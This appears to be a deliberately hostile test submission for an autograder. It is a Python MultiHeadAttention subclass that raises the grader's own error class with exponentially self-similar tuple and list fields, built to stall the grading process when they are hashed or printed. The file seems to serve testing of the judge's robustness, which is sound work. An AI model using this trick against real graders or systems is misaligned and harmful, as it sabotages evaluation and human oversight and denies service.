# Written to attack the judge: the block between the "hostile" markers is the attack (docs/judge.md).
# Raise the kit's own StudentError with a kind and a message that are tiny on the wire and enormous once walked:
# a self-similar tuple (2**64 nodes in about 130 bytes) and a self-similar list (2**48 leaves). Hashing the
# kind or str() of the message would stall the grading process; the fields are replaced after __init__ too.
class MultiHeadAttention(MultiHeadAttention):
    def forward(self, query, key, value, mask=None):
        # >>> hostile
        import sys as _sys

        _student_error = _sys.modules["autograder.student_code"].StudentError
        _kind, _message = (), []
        for _ in range(64):
            _kind = (_kind, _kind)
        for _ in range(48):
            _message = [_message, _message]
        _error = _student_error(_kind, _message, _message, _kind, _message)
        _error.kind, _error.message, _error.detail = _kind, _message, _message
        raise _error
        # <<< hostile
        return super().forward(query, key, value, mask)
